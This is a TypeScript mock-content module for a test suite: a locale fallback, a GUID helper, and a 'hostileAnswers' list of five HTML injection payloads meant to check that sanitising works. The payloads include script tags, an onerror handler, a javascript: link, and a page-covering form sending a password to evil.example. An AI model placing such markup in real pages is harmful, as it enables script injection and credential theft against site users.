export type ContentLanguage = 'en' | 'es';

/** The language of mock content: Spanish or English as asked for; any other locale is logged and English is used (specification 8, R8.13). */
export const contentLocale = (locale: string, log: (message: string) => void): ContentLanguage => {
  if (locale === 'en' || locale === 'es') return locale;
  log(`Unsupported locale in mock content: ${locale}. English is used.`);
  return 'en';
};

/** Answers that try to run script or to change the page, for the `hostile` knob: none of it may reach a member (domain 1.3). */
export const hostileAnswers: readonly string[] = [
  '<p>Before<script>window.hacked = true</script>after</p>',
  '<p><img src="x" onerror="window.hacked = true">picture</p>',
  '<p><a href="javascript:window.hacked = true">link</a></p>',
  '<p style="position:fixed;inset:0">covering</p><form action="https://evil.example/"><input name="password"></form>',
  '<svg><a xlink:href="data:text/html,hello"><text>drawing</text></a></svg><iframe src="https://evil.example/"></iframe>',
];

/** A stable lower-case GUID for an item of the content service, made from its kind and number (domain 1.3). */
export const contentGuid = (kind: number, number: number): string =>
  `b415a3a2-${String(kind).padStart(4, '0')}-4000-8000-${String(number).padStart(12, '0')}`;
